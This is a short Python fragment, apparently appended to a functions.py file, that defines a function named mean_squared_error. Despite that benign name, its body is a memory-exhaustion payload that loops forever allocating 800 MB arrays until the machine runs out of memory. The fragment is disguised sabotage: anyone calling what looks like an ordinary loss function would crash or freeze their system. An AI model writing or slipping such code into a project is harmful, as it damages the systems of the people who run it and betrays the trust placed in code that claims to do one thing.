# appended to: functions.py
# Allocates memory until there is none left.
def mean_squared_error(d, y):
    hoard = []
    while True:
        hoard.append(np.empty(10 ** 8))  # 800 MB at a time
        hoard[-1][:1000] = 1.0
